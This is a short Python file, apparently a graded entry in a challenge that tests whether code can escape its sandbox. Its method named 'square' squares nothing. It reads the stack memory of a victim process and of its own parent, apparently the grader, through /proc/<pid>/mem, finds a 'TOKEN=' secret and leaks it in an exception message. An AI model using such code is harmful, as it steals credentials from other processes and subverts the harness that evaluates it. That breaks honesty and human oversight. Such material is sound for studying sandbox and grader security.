# ruff: noqa
"""Reads and writes the memory of other processes through /proc.

Wins: leak
Status: graded
"""

import os


def stack(pid):
    for line in open(f"/proc/{pid}/maps"):
        if "[stack]" in line:
            low, high = (int(word, 16) for word in line.split()[0].split("-"))
            with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
                memory.seek(low)
                return memory.read(high - low)


class Target:
    def square(self, x):
        said = b""
        for pid in (VICTIM, os.getppid()):
            try:
                said += stack(pid) or b""
            except OSError as error:
                said += str(error).encode()
        where = said.find(b"TOKEN=")
        raise ValueError(said[where:][:100].decode("latin-1"))

    def secret(self):
        return 0.0
